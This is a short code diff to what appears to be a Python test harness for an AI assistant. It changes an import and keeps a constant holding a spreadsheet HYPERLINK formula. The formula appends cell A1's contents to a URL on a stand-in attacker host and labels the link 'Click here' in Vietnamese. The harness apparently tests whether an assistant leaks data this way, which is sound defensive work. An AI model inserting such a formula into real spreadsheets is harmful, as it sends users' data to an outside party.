@@ -8,9 +8,8 @@ import sys
 import uuid
 from pathlib import Path
 
-from attacker import texts
-
 from harness import PROJECT, Assistant
+from harness import reply_text as texts
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
 
